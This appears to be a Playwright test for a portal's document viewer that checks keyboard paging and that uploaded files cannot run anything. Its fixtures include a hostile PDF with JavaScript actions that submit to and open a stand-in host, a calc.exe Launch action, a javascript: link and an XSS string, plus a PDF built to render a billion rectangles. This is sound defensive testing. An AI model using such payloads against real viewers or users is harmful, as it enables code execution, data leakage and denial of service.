import sharp from 'sharp';
import { pdfOf } from '../support/cv-files';
import { apiOf, type Application } from './support/api';
import { newCall, readyDrafts, sendDraft } from './support/applied';
import { demo, signIn } from './support/people';
import { expect, expectAccessible, test } from './support/portal-test';

/** A PDF that renders, and that would run a script, open a URL and start a program if the viewer allowed it. */
const HOSTILE = Buffer.from(`%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://students.invalid/"\\);)>>/AA<</WC<</S/JavaScript/JS(app.alert\\(2\\))>>>>/Names<</JavaScript<</Names[(a) 5 0 R]>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>/Contents 4 0 R/AA<</O<</S/URI/URI(https://students.invalid/opened)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/URI/URI(javascript:document.title='run')>>>><</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/Launch/F(calc.exe)>>>>]>>endobj
4 0 obj<</Length 47>>stream
BT /F 20 Tf 20 100 Td (<img src=x onerror=1>) Tj ET
endstream endobj
5 0 obj<</S/JavaScript/JS(app.launchURL\\("https://students.invalid/named"\\))>>endobj
trailer<</Root 1 0 R>>
%%EOF
`);

/** A PDF of two kilobytes that draws a thousand million rectangles: nested form objects, each drawing the next one ten times. */
function endless(levels = 9): Buffer {
  const stream = (dictionary: string, body: string) => `<<${dictionary}/Length ${String(body.length)}>>stream\n${body}endstream`;
  const form = (level: number) =>
    level === levels - 1
      ? stream('/Type/XObject/Subtype/Form/BBox[0 0 300 300]', '0 0 10 10 re f\n'.repeat(10))
      : stream(`/Type/XObject/Subtype/Form/BBox[0 0 300 300]/Resources<</XObject<</X ${String(11 + level)} 0 R>>>>`, '/X Do\n'.repeat(10));
  const forms = Array.from({ length: levels }, (_, level) => `${String(10 + level)} 0 obj${form(level)} endobj`);
  const page = [
    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj',
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Resources<</XObject<</X 10 0 R>>>>/Contents 4 0 R>>endobj',
    `4 0 obj${stream('', '/X Do\n')} endobj`,
  ];
  return Buffer.from(['%PDF-1.7', ...page, ...forms, 'trailer<</Root 1 0 R>>', '%%EOF', ''].join('\n'));
}

const named = (key: string) => ({ key, title: { en: key, el: key }, required: true });

test('a Secretary reads documents next to an application, page by page and by keyboard, and nothing in them is run', async ({ page, another }) => {
  await signIn(page, demo('secretary'));
  const call = await newCall(page, 'Call of the viewer', { required_documents: ['diploma', 'pages', 'picture', 'hostile', 'endless'].map(named) });
  const applicant = await another();
  const [draft] = (await readyDrafts(applicant, [call])) as [Application];
  const api = await apiOf(applicant);
  const files = [
    { name: 'pages.pdf', mimeType: 'application/pdf', buffer: Buffer.from(await pdfOf(['The first', 'The second', 'The last'])) },
    {
      name: 'picture.png',
      mimeType: 'image/png',
      buffer: await sharp({ create: { width: 900, height: 300, channels: 3, background: '#0b5cad' } }).png().toBuffer(),
    },
    { name: 'hostile.pdf', mimeType: 'application/pdf', buffer: HOSTILE },
    { name: 'endless.pdf', mimeType: 'application/pdf', buffer: endless() },
  ];
  const documents = { ...(draft as { documents: Record<string, number> }).documents };
  for (const file of files) {
    const answer = await api.upload('/api/files', file);
    expect(answer.status(), file.name).toBe(201);
    documents[file.name.split('.')[0] ?? ''] = ((await answer.json()) as { id: number }).id;
  }
  expect((await api.put(`/api/applications/${String(draft.id)}`, { documents })).status()).toBe(200);
  await sendDraft(applicant, draft);

  await page.goto(`/manage/applications/${String(draft.id)}`);
  const main = page.getByRole('main');
  const viewer = main.getByRole('region', { name: 'Document viewer' });
  const opener = main.getByRole('button', { name: 'View: pages.pdf' });

  await test.step('the pages of a PDF are turned by its buttons and by arrow keys, and each is announced with its text', async () => {
    await opener.press('Enter');
    await expect(viewer.getByRole('heading', { name: /pages\.pdf/ })).toBeFocused();
    const told = viewer.getByRole('status');
    await expect(told).toHaveText('page 1 of 3');
    await expect(viewer.getByRole('button', { name: 'Previous page' })).toBeDisabled();
    await viewer.getByRole('button', { name: 'Next page' }).press('Enter');
    await expect(viewer.getByRole('img', { name: 'pages.pdf, page 2 of 3' })).toHaveAccessibleDescription('The second');
    await viewer.getByRole('button', { name: 'Next page' }).press('Enter');
    await expect(told).toHaveText('page 3 of 3');
    await expect(viewer.locator(':focus'), 'who came to the last page by keyboard is still in the viewer').toHaveCount(1);
    await viewer.getByRole('group', { name: 'pages.pdf', exact: true }).press('ArrowLeft');
    await expect(viewer.getByRole('img', { name: 'pages.pdf, page 2 of 3' })).toHaveAccessibleDescription('The second');
    await page.keyboard.press('ArrowLeft');
    await page.keyboard.press('ArrowLeft');
    await expect(told).toHaveText('page 1 of 3');
    await page.keyboard.press('ArrowRight');
    await expect(viewer.getByRole('img', { name: 'pages.pdf, page 2 of 3' })).toHaveAccessibleDescription('The second');
    await expectAccessible(page);
  });

  await test.step('a picture is shown whole', async () => {
    await viewer.getByRole('button', { name: 'Next document' }).press('Enter');
    await expect(viewer.getByRole('heading', { name: /picture\.png/ })).toBeFocused();
    const picture = viewer.getByRole('img', { name: 'picture.png' });
    await expect.poll(() => picture.evaluate((image: HTMLImageElement) => [image.naturalWidth, image.naturalHeight])).toEqual([900, 300]);
    await expectAccessible(page);
  });

  await test.step('of a hostile PDF there is the picture of its page and nothing that could be run or followed', async () => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    page.on('dialog', (dialog) => asked.push(dialog.message()));
    await viewer.getByRole('button', { name: 'Next document' }).press('Enter');
    const sheet = viewer.getByRole('img', { name: 'hostile.pdf, page 1 of 1' });
    await expect(sheet).toHaveAccessibleDescription('<img src=x onerror=1>');
    await sheet.click();
    await expect(viewer.locator('a, iframe, embed, object, script')).toHaveCount(0);
    expect(asked.filter((url) => !url.startsWith(new URL(page.url()).origin) && !url.startsWith('blob:'))).toEqual([]);
    await expect(page).toHaveURL(`/manage/applications/${String(draft.id)}`);
  });

  await test.step('a PDF that is built to take for ever leaves the page responsive, and is given up', async () => {
    await viewer.getByRole('button', { name: 'Next document' }).press('Enter');
    const endless = viewer.getByRole('img', { name: 'endless.pdf, page 1 of 1' });
    await expect(endless).not.toHaveAttribute('data-drawn');
    await viewer.getByRole('button', { name: 'Previous document' }).press('Enter');
    await expect(viewer.getByRole('img', { name: 'hostile.pdf, page 1 of 1' })).toHaveAttribute('data-drawn');
    await page.clock.install();
    await viewer.getByRole('button', { name: 'Next document' }).press('Enter');
    await expect(endless).toBeVisible();
    await page.clock.fastForward(30_000);
    await expect(viewer).toContainText('This file cannot be shown here.');
    await expect(viewer.getByRole('button', { name: 'Download endless.pdf' })).toBeVisible();
  });

  await viewer.getByRole('button', { name: 'Close the viewer' }).press('Enter');
  await expect(opener).toBeFocused();
});
